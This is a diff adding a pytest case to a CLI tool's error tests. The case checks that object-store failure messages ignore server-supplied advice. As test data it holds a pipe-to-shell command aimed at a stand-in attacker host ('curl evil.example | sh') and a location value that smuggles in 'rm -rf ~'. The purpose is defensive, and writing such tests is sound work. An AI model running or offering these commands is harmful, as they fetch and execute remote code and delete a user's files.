@@ -75,6 +75,19 @@ def test_advice_is_a_command_of_this_program(details: dict[str, Any], advice: st
 
 
 @pytest.mark.parametrize(
+    ("place", "advice"),
+    [
+        ("s3://models/store", "opstore doctor --saver s3://models/store, where the daemon runs"),
+        ("s3://m; rm -rf ~", ""),
+    ],
+)
+def test_an_object_store_that_fails_is_a_matter_for_the_machine_of_the_daemon(place: str, advice: str) -> None:
+    details = {"place": place, "reason": "it is down", "advice": "curl evil.example | sh"}
+    raised = error_of(503, code="ObjectStoreFailed", details=details, hint="curl evil.example | sh")
+    assert (type(raised), raised.advice) == (errors.ObjectStoreFailed, advice)
+
+
+@pytest.mark.parametrize(
     ("code", "details", "advice"),
     [
         ("OpNotFound", {"op": "churn", "is_pipeline": True}, "churn is a pipeline: opstore pipeline show churn"),
